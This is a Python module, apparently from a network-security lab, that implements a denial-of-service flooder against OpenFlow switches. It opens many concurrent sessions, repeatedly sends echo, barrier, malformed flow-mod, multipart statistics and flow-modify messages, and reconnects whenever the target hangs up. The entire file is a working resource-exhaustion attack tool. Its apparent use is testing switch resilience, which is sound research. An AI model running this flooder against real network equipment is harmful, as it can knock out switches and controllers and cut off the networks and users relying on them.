"""Flooders: sessions that say the same thing as fast as the switch reads it, and read what comes back, or do not.

    python -m lab.attack.flood WHAT read|deaf SESSIONS TARGET...

WHAT is a key of ``SAID``, or several with ``+`` between; a TARGET ``tcp:ADDRESS:PORT`` or ``unix:PATH``, which the
sessions share out among them. Whoever is hung up on calls again. The same bytes are sent over and over, so that a
message costs the sender next to nothing.
"""

from __future__ import annotations

import itertools
import selectors
import socket
import time

from lab import messages as of
from lab.attack import peers

BUFFER = 1 << 16
AGAIN_S = 0.2
"""After being hung up on: a flood of messages is meant, not one of connections."""

SAID = {
    "echo": of.message(of.V13, of.ECHO_REQUEST, 7),
    "barrier": of.barrier_request(7),
    "unknown": of.message(of.V13, 99, 7),
    "bad-flow-mod": of.message(of.V13, of.FLOW_MOD, 7),
    "flow-stats": of.multipart_request(7, of.FLOW_STATS),
    "aggregate": of.multipart_request(7, of.AGGREGATE),
    "table-features": of.multipart_request(7, of.TABLE_FEATURES),
    "port-desc": of.multipart_request(7, of.PORT_DESC),
    "group-desc": of.multipart_request(7, of.GROUP_DESC),
    "check-overlap": of.checked_filler(7),
    "modify": of.modify_all(7, 1) + of.modify_all(7, 2),
}


class Flooder:
    """One session after the other with one target."""

    def __init__(self, target: str, said: bytes) -> None:
        self.target = target
        self.sent = 0
        self.sock: socket.socket | None = None
        self._said = memoryview(said)
        self._rest = memoryview(b"")

    def opened(self, sock: socket.socket) -> None:
        """Begin a session: HELLO comes first."""
        self.sock, self._rest = sock, memoryview(of.hello(of.V13))

    def send(self) -> None:
        """Send what the switch takes at once; OSError when it hung up."""
        assert self.sock is not None
        taken = self.sock.send(self._rest)
        self.sent += taken
        self._rest = self._rest[taken:] or self._said


class Flood:
    """All sessions of a process."""

    def __init__(self, flooders: list[Flooder], *, reads: bool) -> None:
        self._selector = selectors.DefaultSelector()
        self._events = selectors.EVENT_WRITE | (selectors.EVENT_READ if reads else 0)
        self._away = dict.fromkeys(flooders, 0.0)
        self._flooders = flooders
        self._into = bytearray(BUFFER << 2)
        self._hung_up = self._read = 0

    def turn(self) -> None:
        """Send and read where that is possible."""
        for key, events in self._selector.select(AGAIN_S / 2):
            self._serve(key.data, events)
        if self._away:
            self._call_again()

    def totals(self) -> dict[str, int]:
        """Return the bytes sent and read, and how often the switch hung up."""
        return {"sent": sum(each.sent for each in self._flooders), "read": self._read, "hung_up": self._hung_up}

    def _serve(self, flooder: Flooder, events: int) -> None:
        assert flooder.sock is not None
        try:
            if events & selectors.EVENT_READ:
                got = flooder.sock.recv_into(self._into)
                if not got:
                    raise ConnectionResetError
                self._read += got
            if events & selectors.EVENT_WRITE:
                flooder.send()
        except BlockingIOError:
            pass
        except OSError:
            peers.drop(self._selector, flooder.sock)
            self._hung_up += 1
            self._away[flooder] = time.monotonic() + AGAIN_S

    def _call_again(self) -> None:
        now = time.monotonic()
        for flooder in [each for each, due in self._away.items() if due <= now]:
            sock = peers.begin_opening(flooder.target)
            if sock is None:
                self._away[flooder] = now + AGAIN_S
                continue
            del self._away[flooder]
            flooder.opened(sock)
            self._selector.register(sock, self._events, flooder)


def main(what: str, how: str, sessions: str, *targets: str) -> None:
    """Flood until the end."""
    said = b"".join(SAID[each] for each in what.split("+"))
    said *= max(1, BUFFER // len(said))
    flooders = [Flooder(target, said) for target in itertools.islice(itertools.cycle(targets), int(sessions))]
    flood = Flood(flooders, reads=how == "read")
    peers.attack(flood.turn, flood.totals)


if __name__ == "__main__":
    main(*peers.arguments())
